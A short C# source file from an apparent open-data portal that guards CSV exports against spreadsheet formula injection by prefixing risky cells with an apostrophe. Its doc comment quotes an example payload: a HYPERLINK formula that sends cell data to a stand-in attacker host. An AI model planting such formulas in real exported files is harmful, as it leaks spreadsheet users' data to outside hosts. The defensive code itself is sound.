using System.Globalization;

namespace Portal.OpenData;

/// <summary>
/// Spreadsheet formula injection (OWASP "CSV Injection"): Excel and LibreOffice run a cell of a CSV file that begins
/// with <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, a tab or a carriage return as a formula, such as
/// <c>=HYPERLINK("https://evil.example/?"&amp;A1, "Klicka")</c>, when a resident opens the open data.
/// </summary>
public static class SpreadsheetFormula
{
    public static bool StartsLikeOne(string cell) => cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r';

    /// <summary>
    /// The cell as it may be written: a number (a longitude of -70.5) as it is, any other text that starts like a
    /// formula with OWASP's leading apostrophe, which spreadsheets show as text. The build refuses such names
    /// (PT0047), so this is the second line: it keeps the file safe whatever column is added to it later.
    /// </summary>
    public static string Neutralise(string cell) =>
        StartsLikeOne(cell) && !double.TryParse(cell, NumberStyles.Float, CultureInfo.InvariantCulture, out _) ? "'" + cell : cell;
}
